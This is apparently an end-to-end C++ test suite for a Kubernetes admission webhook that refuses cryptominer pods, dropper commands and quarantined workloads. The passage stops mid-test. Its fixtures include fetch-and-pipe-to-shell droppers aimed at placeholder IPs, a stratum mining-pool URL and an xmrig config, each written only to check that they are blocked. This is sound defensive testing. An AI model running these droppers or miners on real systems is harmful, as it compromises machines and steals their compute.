// The webhook through the real kube-apiserver: a ValidatingWebhookConfiguration
// makes the API server call this process over TLS, and requests are made with
// kubectl or the client as a user would.
#include <gtest/gtest.h>
#include <prometheus/registry.h>

#include <algorithm>
#include <atomic>
#include <filesystem>
#include <sstream>
#include <thread>

#include "e2e/cluster.h"
#include "e2e/environment.h"
#include "e2e/support/admission.h"
#include "e2e/support/setup.h"
#include "e2e/support/wait.h"
#include "kube/client.h"
#include "kube/pki.h"
#include "webhook/server.h"

namespace orderguard::webhook {
namespace {

using e2e::cluster;
using e2e::poll_until;
using kube::json;
using namespace std::chrono_literals;
namespace res = kube::resources;

const char* kConfigName = "orderguard-e2e";

json pod(const std::string& name, const std::string& image, const json& args = json::array()) {
  json c = {{"name", "main"}, {"image", image}};
  if (!args.empty()) c["args"] = args;
  return {{"apiVersion", "v1"},
          {"kind", "Pod"},
          {"metadata", {{"name", name}, {"namespace", "shop"}}},
          {"spec", {{"containers", json::array({c})}}}};
}

class WebhookE2E : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto crd = e2e::install_security_crds();
    ASSERT_TRUE(crd.ok()) << crd.error().describe();
    client_ = std::move(e2e::admin_client()).value();
    dir_ = cluster().work_dir() + "/webhook";
    std::filesystem::create_directories(dir_);
    ca_.emplace(std::move(kube::generate_ca({.common_name = "orderguard-webhook-ca"})).value());
    issue_serving_cert();

    registry_ = std::make_shared<prometheus::Registry>();
    hook_ = std::make_unique<Webhook>(WebhookOptions{.address = "127.0.0.1",
                                                     .port = 0,
                                                     .metrics_address = "127.0.0.1",
                                                     .metrics_port = 0,
                                                     .tls_cert_file = dir_ + "/tls.crt",
                                                     .tls_key_file = dir_ + "/tls.key",
                                                     .cert_check_interval = 200ms},
                                      client_.get(), registry_);
    auto st = hook_->start();
    ASSERT_TRUE(st.ok()) << st.error().describe();
    ASSERT_TRUE(poll_until([] { return hook_->ready(); }, 60s));
    register_webhook("Fail", hook_->port());
    auto ns = e2e::create_namespace(*client_, "shop");
    ASSERT_TRUE(ns.ok()) << ns.error().describe();
  }

  static void TearDownTestSuite() {
    if (client_) {
      (void)client_->remove(res::kValidatingWebhookConfigurations, "", kConfigName);
    }
    if (hook_) hook_->stop();
    hook_.reset();
    client_.reset();
  }

  // A serving certificate for 127.0.0.1 signed by ca_, written where the
  // webhook watches for it.
  static void issue_serving_cert() {
    Status written = e2e::write_local_serving_certificate(*ca_, dir_);
    ASSERT_TRUE(written.ok()) << written.error().describe();
  }

  static void register_webhook(const std::string& failure_policy, uint16_t port) {
    auto st = e2e::register_miner_webhook(kConfigName, failure_policy, port, ca_->cert_pem,
                                          /*config_objects=*/true);
    ASSERT_TRUE(st.ok()) << st.error().describe();
  }

  static e2e::CommandResult apply(const json& obj) {
    return cluster().kubectl({"apply", "-f", "-"}, obj.dump());
  }

  static inline std::unique_ptr<kube::Client> client_;
  static inline std::unique_ptr<Webhook> hook_;
  static inline std::shared_ptr<prometheus::Registry> registry_;
  static inline std::optional<kube::KeyPair> ca_;
  static inline std::string dir_;
};

TEST_F(WebhookE2E, MinerPodIsRefusedWithTheRuleInTheMessage) {
  auto r = apply(pod("miner", "xmrig"));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.err.find("denied the request"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("rule blocked-image"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("container main"), std::string::npos) << r.err;
  EXPECT_FALSE(client_->get(res::kPods, "shop", "miner").ok());
}

TEST_F(WebhookE2E, BenignPodIsAllowed) {
  auto r = apply(pod("web", "nginx:1.27", {"--port=8080"}));
  ASSERT_TRUE(r.ok()) << r.describe();
  EXPECT_TRUE(client_->get(res::kPods, "shop", "web").ok());
}

TEST_F(WebhookE2E, DeploymentCronJobAndInitContainerAreRefused) {
  json deployment = {
      {"apiVersion", "apps/v1"},
      {"kind", "Deployment"},
      {"metadata", {{"name", "worker"}, {"namespace", "shop"}}},
      {"spec",
       {{"selector", {{"matchLabels", {{"app", "worker"}}}}},
        {"template",
         {{"metadata", {{"labels", {{"app", "worker"}}}}},
          {"spec",
           {{"containers",
             {{{"name", "app"},
               {"image", "ubuntu:24.04"},
               {"command", {"/tmp/.x/run", "-o", "stratum+tcp://pool.minexmr.com:4444"}}}}}}}}}}}};
  auto d = apply(deployment);
  ASSERT_FALSE(d.ok());
  EXPECT_NE(d.err.find("rule stratum-url"), std::string::npos) << d.err;
  EXPECT_NE(d.err.find("spec.template.spec.containers[0].command"), std::string::npos) << d.err;

  json cronjob = {
      {"apiVersion", "batch/v1"},
      {"kind", "CronJob"},
      {"metadata", {{"name", "nightly"}, {"namespace", "shop"}}},
      {"spec",
       {{"schedule", "0 3 * * *"},
        {"jobTemplate",
         {{"spec",
           {{"template",
             {{"spec",
               {{"restartPolicy", "Never"},
                {"containers",
                 {{{"name", "job"},
                   {"image", "alpine:3.20"},
                   {"command",
                    {"sh", "-c", "curl -fsSL http://198.51.100.7/x.sh | sh"}}}}}}}}}}}}}}}};
  auto cj = apply(cronjob);
  ASSERT_FALSE(cj.ok());
  EXPECT_NE(cj.err.find("rule dropper"), std::string::npos) << cj.err;
  EXPECT_NE(cj.err.find("spec.jobTemplate.spec.template.spec.containers[0]"), std::string::npos)
      << cj.err;

  json with_init = pod("init-miner", "nginx:1.27");
  with_init["spec"]["initContainers"] = {
      {{"name", "setup"}, {"image", "busybox"}, {"args", {"--donate-level=1", "-a", "rx/0"}}}};
  auto ic = apply(with_init);
  ASSERT_FALSE(ic.ok());
  EXPECT_NE(ic.err.find("container setup"), std::string::npos) << ic.err;
  EXPECT_NE(ic.err.find("rule miner-flag"), std::string::npos) << ic.err;
}

TEST_F(WebhookE2E, ImageChangeOnExistingPodAndEphemeralContainerAreRefused) {
  ASSERT_TRUE(apply(pod("editable", "nginx:1.27")).ok());
  auto changed = client_->patch(res::kPods, "shop", "editable", kube::PatchType::kJson,
                                json::array({{{"op", "replace"},
                                              {"path", "/spec/containers/0/image"},
                                              {"value", "xmrig/xmrig:6.21"}}}));
  ASSERT_FALSE(changed.ok());
  EXPECT_EQ(changed.error().http_status, 403) << changed.error().describe();
  EXPECT_NE(changed.error().message.find("rule blocked-image"), std::string::npos);

  auto current = client_->get(res::kPods, "shop", "editable");
  ASSERT_TRUE(current.ok());
  json with_debug = *current;
  with_debug["spec"]["ephemeralContainers"] = {
      {{"name", "debugger"},
       {"image", "docker.io/library/busybox:1.36"},
       {"command", {"sh", "-c", "wget -qO- http://203.0.113.9/kinsing | sh"}}}};
  auto eph = client_->update(res::kPods, "shop", with_debug, "ephemeralcontainers");
  ASSERT_FALSE(eph.ok());
  EXPECT_EQ(eph.error().http_status, 403) << eph.error().describe();
  EXPECT_NE(eph.error().message.find("container debugger"), std::string::npos)
      << eph.error().message;
}

TEST_F(WebhookE2E, InvalidMinerPolicyIsRefusedWithTheField) {
  json bad = {{"apiVersion", "security.orderguard.io/v1alpha1"},
              {"kind", "MinerPolicy"},
              {"metadata", {{"name", "broken"}}},
              {"spec", {{"signatures", {{{"name", "bad"}, {"regex", "(unclosed"}}}}}}};
  auto r = apply(bad);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.err.find("spec.signatures[0].regex"), std::string::npos) << r.err;
}

TEST_F(WebhookE2E, AuditModeWarnsAndPolicyChangesApplyWithoutRestart) {
  json audit = {{"apiVersion", "security.orderguard.io/v1alpha1"},
                {"kind", "MinerPolicy"},
                {"metadata", {{"name", "team"}}},
                {"spec", {{"mode", "Audit"}}}};
  ASSERT_TRUE(apply(audit).ok());
  // Once the informer has it, a miner pod is admitted with a warning.
  e2e::CommandResult r;
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(pod("audited", "xmrig"));
        return r.ok();
      },
      30s))
      << r.describe();
  EXPECT_NE(r.err.find("Warning:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("blocked-image"), std::string::npos) << r.err;

  audit["spec"]["mode"] = "Enforce";
  ASSERT_TRUE(apply(audit).ok());
  ASSERT_TRUE(poll_until([&] { return !apply(pod("audited-2", "xmrig")).ok(); }, 30s));
  ASSERT_TRUE(cluster().kubectl({"delete", "minerpolicy", "team"}).ok());
}

// orderguard_webhook_policy_denials_total{policy} of this webhook (0 when absent).
double policy_denials_metric(prometheus::Registry& registry, const std::string& policy) {
  for (const auto& family : registry.Collect()) {
    if (family.name != "orderguard_webhook_policy_denials_total") continue;
    for (const auto& metric : family.metric) {
      for (const auto& label : metric.label) {
        if (label.name == "policy" && label.value == policy) return metric.counter.value;
      }
    }
  }
  return 0;
}

// The status tells the truth: observedGeneration follows each edit, Valid says whether the
// policy compiles, and admissionDenials is what the webhook's own counter for the policy
// says after a burst of refused Pods (counted once each, written within a second).
TEST_F(WebhookE2E, PolicyStatusAgreesWithTheWebhooksMetrics) {
  json policy = {
      {"apiVersion", "security.orderguard.io/v1alpha1"},
      {"kind", "MinerPolicy"},
      {"metadata", {{"name", "counted"}}},
      {"spec",
       {{"builtinIndicators", false}, {"blockedImages", {"registry.example/burst-worker"}}}}};
  ASSERT_TRUE(apply(policy).ok());
  // The policy as stored, with a status object even before one is written.
  auto status_of = [](const std::string& name) {
    auto p = client_->get(kMinerPolicies, "", name);
    json out = p.ok() ? *p : json::object();
    if (!out.contains("status") || !out["status"].is_object()) out["status"] = json::object();
    return out;
  };
  auto valid = [](const json& p) -> json {
    for (const auto& c : p["status"].value("conditions", json::array())) {
      if (c["type"] == "Valid") return c;
    }
    return json::object();
  };
  json stored;
  ASSERT_TRUE(poll_until(
      [&] {
        stored = status_of("counted");
        return stored["status"].value("observedGeneration", int64_t{0}) == 1;
      },
      30s))
      << stored.dump();
  EXPECT_EQ(valid(stored)["status"], "True");
  EXPECT_EQ(valid(stored)["observedGeneration"], 1);

  // A burst of refused Pods: the first once the webhook has the policy, then 14 more.
  json burst = pod("burst-0", "registry.example/burst-worker:1");
  const std::string first =
      e2e::wait_for_pod_refusal(*client_, "shop", burst, "blocked-image", 30s);
  ASSERT_NE(first.find("rule blocked-image"), std::string::npos) << first;
  int refused = 1;
  for (int i = 1; i < 15; ++i) {
    burst["metadata"]["name"] = "burst-" + std::to_string(i);
    auto created = client_->create(res::kPods, "shop", burst);
    ASSERT_FALSE(created.ok()) << "burst-" << i << " was admitted";
    EXPECT_EQ(created.error().code, ErrorCode::kForbidden) << created.error().describe();
    ++refused;
  }
  EXPECT_EQ(policy_denials_metric(*registry_, "counted"), refused);
  ASSERT_TRUE(poll_until(
      [&] {
        stored = status_of("counted");
        return stored["status"].value("admissionDenials", int64_t{-1}) ==
               static_cast<int64_t>(policy_denials_metric(*registry_, "counted"));
      },
      30s))
      << stored["status"].dump() << " vs metric " << policy_denials_metric(*registry_, "counted");
  EXPECT_EQ(stored["status"]["admissionDenials"], refused);
  auto table = cluster().kubectl({"get", "minerpolicy", "counted"});
  ASSERT_TRUE(table.ok()) << table.describe();
  EXPECT_NE(table.out.find("ADMISSION-DENIALS"), std::string::npos) << table.out;
  EXPECT_NE(table.out.find("VALID"), std::string::npos) << table.out;

  // An edit: observedGeneration and Valid's follow, the count stays.
  policy["spec"]["blockedImages"].push_back("registry.example/other");
  ASSERT_TRUE(apply(policy).ok());
  ASSERT_TRUE(poll_until(
      [&] {
        stored = status_of("counted");
        return stored["status"].value("observedGeneration", int64_t{0}) == 2 &&
               valid(stored).value("observedGeneration", int64_t{0}) == 2;
      },
      30s))
      << stored.dump();
  EXPECT_EQ(stored["status"]["admissionDenials"], refused);
  ASSERT_TRUE(cluster().kubectl({"delete", "minerpolicy", "counted"}).ok());
}

TEST_F(WebhookE2E, CertificateRotationWithoutFailedAdmissions) {
  std::atomic<bool> stop{false};
  std::atomic<int> failures{0}, attempts{0};
  std::thread load([&] {
    for (int i = 0; !stop.load(); ++i) {
      json p = pod("rot-" + std::to_string(i), "nginx:1.27");
      auto created = client_->create(res::kPods, "shop", p);
      attempts++;
      if (!created.ok()) failures++;
    }
  });
  ASSERT_TRUE(poll_until([&] { return attempts.load() >= 5; }, 30s));
  for (int i = 0; i < 3; ++i) {
    issue_serving_cert();
    const int before = attempts.load();
    ASSERT_TRUE(poll_until([&] { return attempts.load() >= before + 5; }, 30s));
  }
  stop = true;
  load.join();
  EXPECT_EQ(failures.load(), 0) << "of " << attempts.load();
}

// pods/exec CONNECT: the API server asks the webhook before it dials the kubelet,
// so a miner command is refused with the rule; a benign one passes admission and
// then fails only because no kubelet runs here.
TEST_F(WebhookE2E, ExecOfAMinerCommandIsRefused) {
  ASSERT_TRUE(apply(pod("exec-target", "nginx:1.27")).ok());
  auto miner = cluster().kubectl({"-n", "shop", "exec", "exec-target", "--", "sh", "-c",
                                  "curl -s http://dl.example/x.sh | sh"});
  EXPECT_FALSE(miner.ok());
  EXPECT_NE(miner.err.find("denied the request"), std::string::npos) << miner.err;
  EXPECT_NE(miner.err.find("dropper"), std::string::npos) << miner.err;
  auto benign = cluster().kubectl({"-n", "shop", "exec", "exec-target", "--", "ls", "/"});
  EXPECT_EQ(benign.err.find("denied the request"), std::string::npos) << benign.err;
}

// Tier resources: what the schema cannot know (a missing CacheTier, a zone with
// no Node) comes back as kubectl warnings, and the object is still created.
TEST_F(WebhookE2E, TierResourcesGetCrossResourceWarnings) {
  Status crds = e2e::install_tier_crds();
  ASSERT_TRUE(crds.ok()) << crds.error().describe();
  const json svc = {{"apiVersion", "tiers.orderguard.io/v1alpha1"},
                    {"kind", "OrderService"},
                    {"metadata", {{"name", "orders"}, {"namespace", "shop"}}},
                    {"spec",
                     {{"image", "shop/orders:1.0"},
                      {"zones", {{{"name", "zone-x"}, {"weight", 100}}}},
                      {"cacheRef", {{"name", "orders-cache"}}}}}};
  // The webhook's tier caches sync once the CRDs exist: until then it stays silent.
  e2e::CommandResult r;
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(svc);
        return r.ok() && r.err.find("does not exist") != std::string::npos;
      },
      90s))
      << r.describe();
  EXPECT_NE(r.err.find("Warning: spec.cacheRef.name: CacheTier shop/orders-cache does not exist"),
            std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find("Warning: spec.zones[0].name: no Node is in zone zone-x"), std::string::npos)
      << r.err;
  EXPECT_TRUE(client_
                  ->get({"tiers.orderguard.io", "v1alpha1", "orderservices", true, "OrderService"},
                        "shop", "orders")
                  .ok());

  // Once they exist, the warnings go away.
  const json cache = {{"apiVersion", "tiers.orderguard.io/v1alpha1"},
                      {"kind", "CacheTier"},
                      {"metadata", {{"name", "orders-cache"}, {"namespace", "shop"}}},
                      {"spec", {{"redis", {{"shards", 3}}}}}};
  ASSERT_TRUE(apply(cache).ok()) << apply(cache).describe();
  json node = {
      {"apiVersion", "v1"},
      {"kind", "Node"},
      {"metadata",
       {{"name", "tier-node-x"}, {"labels", {{"topology.kubernetes.io/zone", "zone-x"}}}}}};
  ASSERT_TRUE(apply(node).ok());
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(svc);
        return r.ok() && r.err.find("Warning") == std::string::npos;
      },
      60s))
      << r.describe();
}

json quarantine(const std::string& name, const std::string& kind, const std::string& workload,
                json extra = json::object()) {
  json spec = {{"scope", "Workload"},
               {"namespace", "shop"},
               {"workload", {{"kind", kind}, {"name", workload}}},
               {"reason", "stratum-url in pod shop/" + workload + "-x on node n1"},
               {"nodeName", "n1"},
               {"createdBy", "orderguard-agent-abcde"}};
  spec.update(extra);
  return {{"apiVersion", "security.orderguard.io/v1alpha1"},
          {"kind", "Quarantine"},
          {"metadata", {{"name", name}}},
          {"spec", spec}};
}

json deployment(const std::string& name) {
  return {{"apiVersion", "apps/v1"},
          {"kind", "Deployment"},
          {"metadata", {{"name", name}, {"namespace", "shop"}}},
          {"spec",
           {{"replicas", 0},
            {"selector", {{"matchLabels", {{"app", name}}}}},
            {"template",
             {{"metadata", {{"labels", {{"app", name}}}}},
              {"spec", {{"containers", {{{"name", "app"}, {"image", "nginx:1.27"}}}}}}}}}}};
}

// The agent-to-webhook loop at admission: a Quarantine object refuses its workload (creating it,
// and a new pod of its ReplicaSet) with the object and its reason in the message; deleting the
// object lifts it.
TEST_F(WebhookE2E, AQuarantineObjectRefusesItsWorkloadUntilDeleted) {
  ASSERT_TRUE(apply(quarantine("deployment.shop.qweb", "Deployment", "qweb")).ok());
  e2e::CommandResult r;
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(deployment("qweb"));
        return !r.ok();
      },
      30s))
      << r.describe();
  EXPECT_NE(r.err.find("rule quarantined-workload: metadata.name: Deployment shop/qweb is "
                       "quarantined (Quarantine deployment.shop.qweb): stratum-url in pod "
                       "shop/qweb-x on node n1"),
            std::string::npos)
      << r.err;
  json rs_pod = pod("qweb-6b7c8d9e0-abcde", "nginx:1.27");
  rs_pod["metadata"]["labels"] = {{"app", "qweb"}, {"pod-template-hash", "6b7c8d9e0"}};
  rs_pod["metadata"]["ownerReferences"] = {{{"apiVersion", "apps/v1"},
                                            {"kind", "ReplicaSet"},
                                            {"name", "qweb-6b7c8d9e0"},
                                            {"uid", "00000000-0000-0000-0000-000000000001"}}};
  auto refused = client_->create(res::kPods, "shop", rs_pod);
  ASSERT_FALSE(refused.ok());
  EXPECT_NE(refused.error().message.find("owned by quarantined Deployment shop/qweb"),
            std::string::npos)
      << refused.error().message;
  // Another workload of the namespace is not affected.
  EXPECT_TRUE(apply(deployment("qother")).ok());
  // `kubectl get quarantines` shows what is quarantined, where, and by which node.
  auto listed = cluster().kubectl({"get", "quarantines", "-o", "wide"});
  ASSERT_TRUE(listed.ok()) << listed.describe();
  for (const char* column : {"NAME", "SCOPE", "TARGET-NAMESPACE", "KIND", "WORKLOAD", "IMAGE",
                             "NODE", "EXPIRES", "AGE", "CREATED-BY", "REASON"}) {
    EXPECT_NE(listed.out.find(column), std::string::npos) << column << " in " << listed.out;
  }
  // The value under each header (empty columns are blank, so split by the header's offsets).
  std::istringstream lines(listed.out);
  std::string header, line, row;
  std::getline(lines, header);
  while (std::getline(lines, line)) {
    if (line.starts_with("deployment.shop.qweb ")) row = line;
  }
  ASSERT_FALSE(row.empty()) << listed.out;
  auto cell = [&](const std::string& column) {
    const size_t at = (header + " ").find(" " + column + " ") + 1;
    if (at == 0 || at >= row.size()) return std::string();
    const std::string rest = row.substr(at);
    return rest.substr(0, rest.find(' '));
  };
  EXPECT_EQ(cell("SCOPE"), "Workload") << listed.out;
  EXPECT_EQ(cell("TARGET-NAMESPACE"), "shop") << listed.out;
  EXPECT_EQ(cell("KIND"), "Deployment") << listed.out;
  EXPECT_EQ(cell("WORKLOAD"), "qweb") << listed.out;
  EXPECT_EQ(cell("IMAGE"), "") << listed.out;
  EXPECT_EQ(cell("NODE"), "n1") << listed.out;
  EXPECT_EQ(cell("CREATED-BY"), "orderguard-agent-abcde") << listed.out;
  EXPECT_EQ(cell("REASON"), "stratum-url") << listed.out;  // its first word

  ASSERT_TRUE(cluster().kubectl({"delete", "quarantine", "deployment.shop.qweb"}).ok());
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(deployment("qweb"));
        return r.ok();
      },
      30s))
      << r.describe();
  auto admitted = client_->create(res::kPods, "shop", rs_pod);
  EXPECT_TRUE(admitted.ok()) << admitted.error().describe();
}

TEST_F(WebhookE2E, AnExpiredQuarantineRefusesNothing) {
  // The expired one first: once the webhook has the live one, it has both.
  ASSERT_TRUE(apply(quarantine("pod.shop.expired", "Pod", "expired",
                               {{"expiresAt", "2000-01-01T00:00:00Z"}}))
                  .ok());
  ASSERT_TRUE(
      apply(quarantine("pod.shop.live", "Pod", "live", {{"expiresAt", "2999-01-01T00:00:00Z"}}))
          .ok());
  e2e::CommandResult r;
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(pod("live", "nginx:1.27"));
        return !r.ok() && r.err.find("quarantined-workload") != std::string::npos;
      },
      30s))
      << r.describe();
  r = apply(pod("expired", "nginx:1.27"));
  EXPECT_TRUE(r.ok()) << r.describe();
}

// What a later admission policy relies on: what a Quarantine names, and which node and agent
// claimed it, cannot change after creation; only the expiry can. Malformed ones are refused.
TEST_F(WebhookE2E, QuarantineFieldsAreImmutableExceptTheExpiry) {
  ASSERT_TRUE(apply(quarantine("pod.shop.immutable", "Pod", "immutable")).ok());
  // The refusal's causes, "field: message": the field and the values, old and new. Sorted:
  // the server's order follows Go map iteration.
  auto causes = [](const Error& e) {
    std::vector<std::string> out;
    for (const auto& c : e.details.value("causes", json::array())) {
      out.push_back(c.value("field", "") + ": " + c.value("message", ""));
    }
    std::sort(out.begin(), out.end());
    return out;
  };
  auto refused = [&](json patch, std::vector<std::string> want) {
    auto r = client_->patch(kQuarantines, "", "pod.shop.immutable", kube::PatchType::kMerge,
                            {{"spec", patch}});
    EXPECT_FALSE(r.ok()) << patch.dump() << " was accepted";
    std::sort(want.begin(), want.end());
    if (!r.ok()) {
      EXPECT_EQ(causes(r.error()), want) << r.error().details.dump();
    }
  };
  json original = *client_->get(kQuarantines, "", "pod.shop.immutable");
  const std::string reason = original["spec"]["reason"];
  refused({{"nodeName", "n2"}},
          {"spec.nodeName: Invalid value: \"object\": nodeName is immutable: it is n1, "
           "not n2"});
  refused({{"nodeName", nullptr}},
          {"spec.nodeName: Invalid value: \"object\": nodeName is immutable: it is n1, not unset"});
  refused({{"createdBy", "someone-else"}},
          {"spec.createdBy: Invalid value: \"object\": createdBy is immutable: it is " +
           original["spec"]["createdBy"].get<std::string>() + ", not someone-else"});
  refused({{"workload", {{"kind", "Pod"}, {"name", "other"}}}},
          {"spec.workload: Invalid value: \"object\": workload is immutable: it is Pod immutable, "
           "not Pod "
           "other"});
  refused({{"scope", "Image"}, {"image", "evil/miner:1"}},
          {"spec.scope: Invalid value: \"object\": scope is immutable: it is Workload, not Image; "
           "delete the "
           "Quarantine and create another",
           "spec.image: Invalid value: \"object\": image is immutable: it is " +
               original["spec"].value("image", std::string("unset")) + ", not evil/miner:1"});
  refused({{"reason", "edited"}},
          {"spec.reason: Invalid value: \"object\": reason is immutable: it is '" + reason +
           "', not 'edited'"});
  auto extended = client_->patch(kQuarantines, "", "pod.shop.immutable", kube::PatchType::kMerge,
                                 {{"spec", {{"expiresAt", "2999-01-01T00:00:00Z"}}}});
  ASSERT_TRUE(extended.ok()) << extended.error().describe();
  EXPECT_EQ((*extended)["spec"]["expiresAt"], "2999-01-01T00:00:00Z");
  EXPECT_EQ((*extended)["spec"]["nodeName"], "n1");

  // The schema and CEL refuse an incomplete one; the webhook one it cannot read.
  json incomplete = quarantine("pod.shop.incomplete", "Pod", "incomplete");
  incomplete["spec"].erase("workload");
  auto missing = client_->create(kQuarantines, "", incomplete);
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(causes(missing.error()),
            std::vector<std::string>{"spec.workload: Required value: scope Workload needs "
                                     "workload: the kind and name of the workload in namespace "
                                     "shop"})
      << missing.error().details.dump();
  incomplete["spec"].erase("namespace");
  incomplete["spec"]["workload"] = {{"kind", "Deployment"}, {"name", "web"}};
  missing = client_->create(kQuarantines, "", incomplete);
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(causes(missing.error()),
            std::vector<std::string>{"spec.namespace: Required value: scope Workload needs "
                                     "namespace: the namespace of Deployment web"})
      << missing.error().details.dump();
  json no_image = {{"apiVersion", "security.orderguard.io/v1alpha1"},
                   {"kind", "Quarantine"},
                   {"metadata", {{"name", "image.none"}}},
                   {"spec", {{"scope", "Image"}}}};
  missing = client_->create(kQuarantines, "", no_image);
  ASSERT_FALSE(missing.ok());
  EXPECT_EQ(causes(missing.error()),
            std::vector<std::string>{"spec.image: Required value: scope Image needs image: the "
                                     "image to refuse in every namespace"})
      << missing.error().details.dump();
  json bad_image = {{"apiVersion", "security.orderguard.io/v1alpha1"},
                    {"kind", "Quarantine"},
                    {"metadata", {{"name", "image.bad"}}},
                    {"spec", {{"scope", "Image"}, {"image", "Evil//Miner"}}}};
  auto r = apply(bad_image);
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.err.find("invalid Quarantine"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("spec.image"), std::string::npos) << r.err;
}

// The MinerPolicy CRD's own CEL rules refuse what no policy may say, naming the field and
// what they found there (the API server, before the webhook sees the object).
TEST_F(WebhookE2E, MinerPolicyRulesNameTheFieldAndWhatTheyFound) {
  json policy = {
      {"apiVersion", "security.orderguard.io/v1alpha1"},
      {"kind", "MinerPolicy"},
      {"metadata", {{"name", "rules"}}},
      {"spec",
       {{"signatures",
         {{{"name", "both"}, {"literal", "a"}, {"regex", "b"}}, {{"name", "neither"}}}},
        {"agent", {{"exclusions", {{"podSelector", {{"matchLabels", json::object()}}}}}}}}}};
  auto r = client_->create(kMinerPolicies, "", policy);
  ASSERT_FALSE(r.ok());
  std::vector<std::string> causes;
  for (const auto& c : r.error().details.value("causes", json::array())) {
    causes.push_back(c.value("field", "") + ": " + c.value("message", ""));
  }
  std::sort(causes.begin(), causes.end());  // the server's order follows Go map iteration
  EXPECT_EQ(causes,
            (std::vector<std::string>{
                "spec.agent.exclusions.podSelector: Required value: an empty podSelector would "
                "exclude every Pod: it has 0 matchLabels and 0 matchExpressions; give at least "
                "one",
                "spec.signatures[0]: Invalid value: \"object\": signature both: set exactly one "
                "of literal and regex, not both",
                "spec.signatures[1]: Invalid value: \"object\": signature neither: set exactly "
                "one of literal and regex, neither is set"}))
      << r.error().details.dump();
}

// Quarantines written by earlier agents into a MinerPolicy's spec.quarantine keep being
// enforced, and writing such a policy warns that the field is deprecated.
TEST_F(WebhookE2E, LegacyMinerPolicyQuarantineEntriesAreStillHonoured) {
  json legacy = {{"apiVersion", "security.orderguard.io/v1alpha1"},
                 {"kind", "MinerPolicy"},
                 {"metadata", {{"name", "legacy-quarantine"}}},
                 {"spec",
                  {{"quarantine",
                    {{{"scope", "Workload"},
                      {"namespace", "shop"},
                      {"workload", {{"kind", "Pod"}, {"name", "legacy"}}},
                      {"reason", "written by an older agent"}}}}}}};
  auto applied = apply(legacy);
  ASSERT_TRUE(applied.ok()) << applied.describe();
  EXPECT_NE(applied.err.find("spec.quarantine is deprecated"), std::string::npos) << applied.err;
  e2e::CommandResult r;
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(pod("legacy", "nginx:1.27"));
        return !r.ok();
      },
      30s))
      << r.describe();
  EXPECT_NE(r.err.find("Pod shop/legacy is quarantined (spec.quarantine[0]): written by an "
                       "older agent"),
            std::string::npos)
      << r.err;
  ASSERT_TRUE(cluster().kubectl({"delete", "minerpolicy", "legacy-quarantine"}).ok());
  ASSERT_TRUE(poll_until([&] { return apply(pod("legacy", "nginx:1.27")).ok(); }, 30s));
}

json config_object(const std::string& kind, const std::string& name, const std::string& ns,
                   const std::string& key, const std::string& value) {
  json o = {
      {"apiVersion", "v1"}, {"kind", kind}, {"metadata", {{"name", name}, {"namespace", ns}}}};
  o[kind == "Secret" ? "stringData" : "data"] = {{key, value}};
  return o;
}

const char* kXmrigConfig =
    R"({"donate-level": 1, "cpu": {"max-threads-hint": 50},
        "pools": [{"url": "pool.supportxmr.com:443", "user": "worker-secret-7", "tls": true}]})";

TEST_F(WebhookE2E, MinerConfigMapAndSecretAreRefusedBenignOnesAdmitted) {
  auto cm =
      apply(config_object("ConfigMap", "batch-settings", "shop", "config.json", kXmrigConfig));
  ASSERT_FALSE(cm.ok());
  EXPECT_NE(cm.err.find("denied the request"), std::string::npos) << cm.err;
  EXPECT_NE(cm.err.find("rule pool-host: data[\"config.json\"]"), std::string::npos) << cm.err;
  EXPECT_FALSE(client_->get(res::kConfigMaps, "shop", "batch-settings").ok());

  // The Secret through the API (stringData): refused, and its value is not in the answer.
  auto secret = client_->create(
      res::kSecrets, "shop",
      config_object("Secret", "batch-credentials", "shop", "config.json", kXmrigConfig));
  ASSERT_FALSE(secret.ok());
  const std::string why = secret.error().message;
  EXPECT_NE(why.find("data[\"config.json\"]"), std::string::npos) << why;
  EXPECT_NE(why.find("Secret value not shown"), std::string::npos) << why;
  for (const char* part : {"supportxmr", "worker-secret-7"}) {
    EXPECT_EQ(why.find(part), std::string::npos) << part << " in " << why;
  }

  ASSERT_TRUE(apply(config_object("ConfigMap", "redis", "shop", "redis.conf",
                                  "bind 0.0.0.0\nport 3333\nmaxmemory 64mb\n"))
                  .ok());
  ASSERT_TRUE(apply(config_object("Secret", "db", "shop", "application.properties",
                                  "spring.datasource.url=jdbc:mysql://db:3306/orders\n"
                                  "spring.datasource.hikari.maximumPoolSize=20\n"))
                  .ok());
  // kube-system is outside the namespaceSelector: never blocked, even by a miner config.
  ASSERT_TRUE(
      apply(config_object("ConfigMap", "xmrig-test", "kube-system", "config.json", kXmrigConfig))
          .ok());
}

TEST_F(WebhookE2E, MinerConfigMapUnderAuditModeIsAdmittedWithAWarning) {
  json audit = {{"apiVersion", "security.orderguard.io/v1alpha1"},
                {"kind", "MinerPolicy"},
                {"metadata", {{"name", "cfg-team"}}},
                {"spec", {{"mode", "Audit"}}}};
  ASSERT_TRUE(apply(audit).ok());
  e2e::CommandResult r;
  ASSERT_TRUE(poll_until(
      [&] {
        r = apply(
            config_object("ConfigMap", "audited-settings", "shop", "config.json", kXmrigConfig));
        return r.ok();
      },
      30s))
      << r.describe();
  EXPECT_NE(r.err.find("Warning:"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("[audit] "), std::string::npos) << r.err;
  ASSERT_TRUE(cluster().kubectl({"delete", "minerpolicy", "cfg-team"}).ok());
  // The built-in default applies again: refused.
  // (A copy admitted meanwhile is deleted: applying it again unchanged would be allowed.)
  ASSERT_TRUE(poll_until(
      [&] {
        if (!apply(config_object("ConfigMap", "audited-settings-2", "shop", "config.json",
                                 kXmrigConfig))
                 .ok()) {
          return true;
        }
